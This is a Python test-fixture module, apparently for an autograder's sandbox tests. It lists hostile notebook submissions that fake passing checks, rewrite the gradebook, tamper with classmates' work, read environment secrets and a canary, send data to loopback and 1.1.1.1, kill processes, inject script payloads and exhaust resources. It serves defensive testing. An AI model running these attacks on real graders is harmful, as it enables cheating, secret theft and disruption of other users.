"""Hostile Lab 1 submissions: what an adversarial student tries, each in a notebook that solves no exercise.

Each attack is code placed in a new cell after the set-up cell (``cell``), in place of solution cells
(``solutions``: grade id -> source), or in the free-response answer (``answer``). ``{PLACEHOLDERS}`` are filled
in by the test with the real paths of the run: the instructor's home and its canary, the workspace, the
submissions, a classmate's notebook, the repository, a port on the host's loopback that the test listens on.

``expect``: "zero" (no auto-graded point), "flagged" (points allowed, but flagged for review), "zero_or_flagged".
"""
from __future__ import annotations

import dataclasses


@dataclasses.dataclass
class Attack:
    name: str
    kind: str                  # the class of attack, as the issue lists them
    what: str                  # one line for the attack table
    cell: str = ""
    solutions: dict[str, str] = dataclasses.field(default_factory=dict)
    answer: str = ""
    expect: str = "zero"


ALL_SOLUTIONS = ["softmax", "attention_scores", "apply_mask", "sdpa", "masks"]

TWIN_SOLUTIONS = {
    "softmax": "from labsupport.attention import softmax_np\n\ndef softmax(x, axis=-1):\n    return softmax_np(x, axis)",
    "attention_scores": "import labsupport.attention as A\n\ndef attention_scores(Q, K):\n"
                        "    return A.attention_scores_np(Q, K)",
    "apply_mask": "import labsupport.attention as A\n\ndef apply_mask(scores, mask=None):\n"
                  "    return A.apply_mask_np(scores, mask)",
    "sdpa": "import labsupport.attention as A\n\ndef scaled_dot_product_attention(Q, K, V, mask=None):\n"
            "    return A.scaled_dot_product_attention_np(Q, K, V, mask)",
    "masks": "import labsupport.attention as A\n\ndef causal_mask(n):\n    return A.causal_mask_np(n)\n\n"
             "def padding_mask(lengths, max_len):\n    return A.padding_mask_np(lengths, max_len)",
}

ATTACKS: list[Attack] = [
    # --- points without work -------------------------------------------------------------------------------
    Attack("rebind_checks", "points without work", "rebinds every check_* name to a function that prints a pass",
           cell="for _n in [n for n in dir() if n.startswith('check_')]:\n"
                "    globals()[_n] = lambda *a, **k: print('✓ all checks passed')"),
    Attack("patch_check_modules", "points without work", "patches labsupport.checks (core, lab01) and numpy",
           cell="import numpy as np, labsupport.checks.core as C, labsupport.checks.lab01 as L\n"
                "for _n in dir(L):\n    if _n.startswith('check_'):\n        setattr(L, _n, lambda *a, **k: None)\n"
                "C.compare = lambda *a, **k: None\nC.expect = lambda *a, **k: None\n"
                "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
                "np.testing.assert_allclose = lambda *a, **k: None"),
    Attack("custom_exc", "points without work", "set_custom_exc swallows every error",
           cell="get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
    Attack("input_transformer", "points without work", "an input transformer turns every later cell into `pass`",
           cell="get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
    Attack("displayhook_partial_credit", "points without work",
           "a function that calls sys.displayhook('2') before raising (nbgrader scores the first result)",
           solutions={"softmax": "import sys\n\ndef softmax(x, axis=-1):\n    sys.displayhook(2.0)\n"
                                 "    raise NotImplementedError()"}),
    Attack("lying_ndarray", "points without work", "returns ndarray subclasses whose ==, shape, dtype, tolist lie",
           solutions={"softmax": "import numpy as np\n\nclass Liar(np.ndarray):\n"
                                 "    def __eq__(self, other): return np.ones(np.shape(other), bool)\n"
                                 "    def __array_function__(self, func, types, args, kwargs): return True\n"
                                 "    def tolist(self): return [[True]]\n"
                                 "    shape = property(lambda self: (4, 6))\n\n"
                                 "def softmax(x, axis=-1):\n    return np.zeros(np.shape(x)).view(Liar)",
                      "masks": "import numpy as np\n\nclass Liar(np.ndarray):\n"
                               "    def __eq__(self, other): return True\n"
                               "    def tolist(self): return [[True, False, False], [True, True, False], [True, True, True]]\n"
                               "    dtype = property(lambda self: np.dtype(bool))\n\n"
                               "def causal_mask(n):\n    return np.zeros((n, n)).view(Liar)\n\n"
                               "def padding_mask(lengths, max_len):\n    return np.zeros((len(lengths), max_len)).view(Liar)"}),
    Attack("lying_tensor", "points without work", "returns torch.Tensor subclasses with a lying __torch_function__",
           solutions={"softmax": "import torch\n\nclass Liar(torch.Tensor):\n    @classmethod\n"
                                 "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
                                 "        return args[1] if len(args) > 1 else torch.ones(1)\n\n"
                                 "def softmax(x, axis=-1):\n    return torch.zeros(1).as_subclass(Liar)"}),
    Attack("getframe_reference", "points without work",
           "reads the expected value out of the calling check's frames with sys._getframe",
           solutions={"softmax": "import sys, numpy as np\n\ndef softmax(x, axis=-1):\n"
                                 "    f = sys._getframe(1)\n    while f is not None:\n"
                                 "        for v in list(f.f_locals.values()):\n"
                                 "            if isinstance(v, np.ndarray) and v.shape == np.shape(x) and v is not x:\n"
                                 "                return v\n        f = f.f_back\n    raise NotImplementedError()"}),
    Attack("forge_protocol", "points without work",
           "writes forged 'passed' answers into the grader's pipe and reads its requests",
           cell="import os, json, struct\nfor fd in range(3, 64):\n    try:\n"
                "        body = json.dumps({'value': {'t': 'none'}, 'ok': True, 'passed': True}).encode()\n"
                "        os.write(fd, struct.pack('>Q', len(body)) + body)\n    except OSError:\n        pass"),
    Attack("patch_wire", "points without work", "patches the worker's encoder and server to answer 'all equal'",
           cell="import labsupport.checks.wire as W, labsupport.checks.subject as S\n"
                "W.encode = lambda *a, **k: {'t': 'bool', 'v': True}\n"
                "S.Server._call = lambda self, msg: {'value': {'t': 'bool', 'v': True}}"),
    Attack("exit_worker", "points without work", "ends the notebook's process in a cell (os._exit)",
           cell="import os\nos._exit(0)"),
    Attack("call_twin", "points without work",
           "every exercise answered by calling labsupport's reference of that exercise",
           solutions=dict(TWIN_SOLUTIONS), expect="flagged"),
    Attack("call_twin_obfuscated", "points without work",
           "the reference reached by getattr/__import__ with computed names",
           solutions={"softmax": "_m = __import__('labs' + 'upport.attention', fromlist=['x'])\n"
                                 "softmax = getattr(_m, 'soft' + 'max_np')"}, expect="flagged"),
    # --- the gradebook and the CSV -------------------------------------------------------------------------
    Attack("gradebook_write", "gradebook and CSV",
           "opens the gradebook and gives itself full marks and a classmate zero",
           cell="import sqlite3, glob\nfor db in ['{WS}/gradebook.db'] + glob.glob('/**/gradebook.db', recursive=True):\n"
                "    try:\n        c = sqlite3.connect(db)\n"
                "        c.execute('update grade set auto_score = 100, manual_score = 100')\n        c.commit()\n"
                "    except Exception as e:\n        print('gradebook:', e)"),
    Attack("csv_rewrite_later", "gradebook and CSV",
           "a detached process rewrites grades.csv after the grader wrote it",
           cell="import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(4)\n"
                "        try:\n            open('{OUT}/grades.csv', 'w').write('student,total\\nattacker,100\\n')\n"
                "        except Exception:\n            pass\n        os._exit(0)\n    os._exit(0)"),
    # --- other students ------------------------------------------------------------------------------------
    Attack("overwrite_classmate", "other students", "overwrites a classmate's submitted notebook",
           cell="for p in ['{CLASSMATE}', '{SUBS}/honest_00/lab01_attention_numpy.ipynb']:\n    try:\n"
                "        open(p, 'w').write('{}')\n    except Exception as e:\n        print('overwrite:', e)"),
    Attack("run_classmate", "other students", "runs a classmate's solution cells (plagiarism at grading time)",
           cell="import json\ntry:\n    nb = json.load(open('{CLASSMATE}'))\n"
                "    for c in nb['cells']:\n        if c['cell_type'] == 'code' and 'def ' in ''.join(c['source']):\n"
                "            exec(''.join(c['source']), globals())\nexcept Exception as e:\n    print('classmate:', e)"),
    Attack("next_kernel", "other students",
           "looks for other kernels' connection files and sockets to disturb the next student",
           cell="import glob, socket\nfiles = glob.glob('/**/kernel-*.json', recursive=True) + "
                "glob.glob('/tmp/**/*.json', recursive=True)\nprint('connection files:', files[:5])\n"
                "for port in range(30000, 30050):\n    s = socket.socket()\n    s.settimeout(0.01)\n"
                "    try:\n        s.connect(('127.0.0.1', port))\n        s.send(b'x' * 1000)\n"
                "    except OSError:\n        pass"),
    # --- secrets and the host ------------------------------------------------------------------------------
    Attack("read_hidden_tests", "secrets and host", "reads the hidden tests and the instructor's solutions",
           cell="import glob\nfound = []\nfor p in ['{REPO}/instructor/grading/hidden/lab01.py', "
                "'{REPO}/notebooks/lab01_attention_numpy.ipynb', '{WS}/source/lab01_attention_numpy/"
                "lab01_attention_numpy.ipynb'] + glob.glob('/**/hidden/lab01.py', recursive=True):\n    try:\n"
                "        found.append(open(p).read())\n    except Exception as e:\n        print('read:', e)\n"
                "print('FOUND-' + 'SECRETS' if found else 'nothing found')\n"   # the marker exists only if printed
                "for text in found:\n    if 'def softmax' in text:\n        exec(text.split('### BEGIN SOLUTION')[1], globals())"),
    Attack("read_scores", "secrets and host", "reads other students' scores and results",
           cell="import glob\nfor p in glob.glob('{OUT}/**', recursive=True) + glob.glob('{WS}/results/**', "
                "recursive=True):\n    try:\n        print(open(p).read()[:200])\n    except Exception:\n        pass"),
    Attack("proc_environ", "secrets and host", "reads the grader's environment through /proc/<pid>/environ",
           cell="import os\nleak = ''\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n"
                "            leak += open(f'/proc/{pid}/environ').read()\n        except Exception:\n            pass\n"
                "leak += str(dict(os.environ))\nprint('LEAK', leak)",
           solutions={"softmax": "import os\n\ndef softmax(x, axis=-1):\n"
                                 "    raise ValueError(str(dict(os.environ)) + open('/proc/1/environ').read())"}),
    Attack("home_files", "secrets and host", "reads files in the instructor's home (the canary)",
           cell="import os\nfor p in ['{HOME}/canary.txt', os.path.expanduser('~/canary.txt'), '/root/canary.txt']:\n"
                "    try:\n        print('LEAK', open(p).read())\n    except Exception as e:\n        print('home:', e)"),
    Attack("write_host", "secrets and host", "writes to the instructor's home, the repository and /tmp",
           cell="import os\nfor p in ['{HOME}/pwned.txt', '{REPO}/pwned.txt', '/tmp/pwned-{RUN}.txt', "
                "'{WS}/pwned.txt', '{SUBS}/pwned.txt', os.path.expanduser('~/pwned.txt')]:\n    try:\n"
                "        open(p, 'w').write('x')\n    except Exception as e:\n        print('write:', e)"),
    Attack("network_out", "secrets and host", "opens TCP connections to the host's loopback and to the internet",
           cell="import socket\nfor addr in [('127.0.0.1', {PORT}), ('10.0.0.1', 80), ('1.1.1.1', 443)]:\n"
                "    s = socket.socket()\n    s.settimeout(1)\n    try:\n        s.connect(addr)\n"
                "        s.send(b'LEAK canary')\n        print('connected', addr)\n    except OSError as e:\n"
                "        print('net:', e)"),
    Attack("survivor", "secrets and host", "a detached process that tries to outlive the run",
           cell="import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                "        for _ in range(30):\n            time.sleep(0.5)\n"
                "            try:\n                open('/tmp/survivor-{RUN}.txt', 'w').write('alive')\n"
                "            except Exception:\n                pass\n        os._exit(0)\n    os._exit(0)"),
    Attack("kill_grader", "disruption", "SIGTERM to its parent and to every process it can see",
           cell="import os, signal\nfor pid in [os.getppid(), 1, -1]:\n    try:\n        os.kill(pid, signal.SIGTERM)\n"
                "    except Exception as e:\n        print('kill:', e)"),
    Attack("escalate", "secrets and host", "tries to become root and to load code with ctypes",
           cell="import os, ctypes\nfor f in (lambda: os.setuid(0), lambda: os.chroot('/'), "
                "lambda: ctypes.CDLL(None).mount(b'none', b'/mnt', b'tmpfs', 0, None)):\n    try:\n"
                "        print('escalate:', f())\n    except Exception as e:\n        print('escalate:', e)"),
    # --- feedback ------------------------------------------------------------------------------------------
    Attack("feedback_html", "feedback injection",
           "raw <script> and <img onerror> in the answer, in an error message and in printed output",
           cell="print('<script>alert(\"cell\")</script>')",
           solutions={"softmax": "def softmax(x, axis=-1):\n"
                                 "    raise ValueError('<script>alert(1)</script><img src=x onerror=\"alert(2)\">')"},
           answer="<script>alert('answer')</script><img src=x onerror=\"alert(3)\"> <iframe src=javascript:1>"),
    # --- resources -----------------------------------------------------------------------------------------
    Attack("huge_output", "resource exhaustion", "a 100 MB output line, printed by a cell and by a function",
           cell="print('A' * 100_000_000)",
           solutions={"softmax": "def softmax(x, axis=-1):\n    print('B' * 50_000_000)\n    raise NotImplementedError()"}),
    Attack("memory", "resource exhaustion", "allocates more memory than the sandbox has, in a cell and a function",
           cell="import numpy as np\ntry:\n    big = np.ones((6 << 30) // 8)\nexcept MemoryError as e:\n    print('mem:', e)",
           solutions={"softmax": "def softmax(x, axis=-1):\n    blocks = []\n    while True:\n"
                                 "        blocks.append(bytearray(256 << 20))"}),
    Attack("disk", "resource exhaustion", "fills its disk: /tmp and its home",
           cell="import os\nfor d in ['/tmp', os.path.expanduser('~')]:\n    try:\n"
                "        with open(os.path.join(d, 'fill'), 'wb') as f:\n            for _ in range(2048):\n"
                "                f.write(b'0' * (1 << 20))\n    except Exception as e:\n        print('disk:', e)"),
    Attack("cpu_loop", "resource exhaustion", "an infinite loop at the top of a cell, signals ignored",
           cell="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
    Attack("sleep_in_function", "resource exhaustion", "a function that never returns",
           solutions={s: f"import time\n\ndef {n}(*args, **kwargs):\n    time.sleep(10_000)"
                      for s, n in [("softmax", "softmax"), ("attention_scores", "attention_scores")]}),
    # --- tampering with the notebook -----------------------------------------------------------------------
    Attack("tamper_cells", "points without work",
           "edits the test cells, changes their points, adds a graded cell worth 50 points", expect="zero"),
]
